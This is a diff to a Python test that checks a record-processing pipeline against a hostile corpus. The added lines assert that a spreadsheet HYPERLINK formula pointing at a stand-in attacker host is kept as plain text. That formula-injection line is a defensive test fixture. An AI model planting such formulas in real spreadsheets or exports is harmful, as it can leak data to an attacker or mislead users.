@@ -120,6 +120,8 @@ def test_mixed_corpus_loses_no_record(tmp_path: Path) -> None:
     assert len(done) + len(failed) == records
     assert len(set(done)) == len(done) and len(set(failed)) == len(failed)
 
+    # a spreadsheet formula in a cell is kept verbatim as text, never evaluated or linked
+    assert f'=HYPERLINK("http://evil.example/{MARKER}","x")' in [d["title"] for d in documents]
     # the merged outputs of the hostile corpus are well formed too
     calendar = icalendar.Calendar.from_ical((out / "timeline.ics").read_text("utf-8"))
     assert len(list(calendar.walk("VEVENT"))) <= len(data["timeline"])
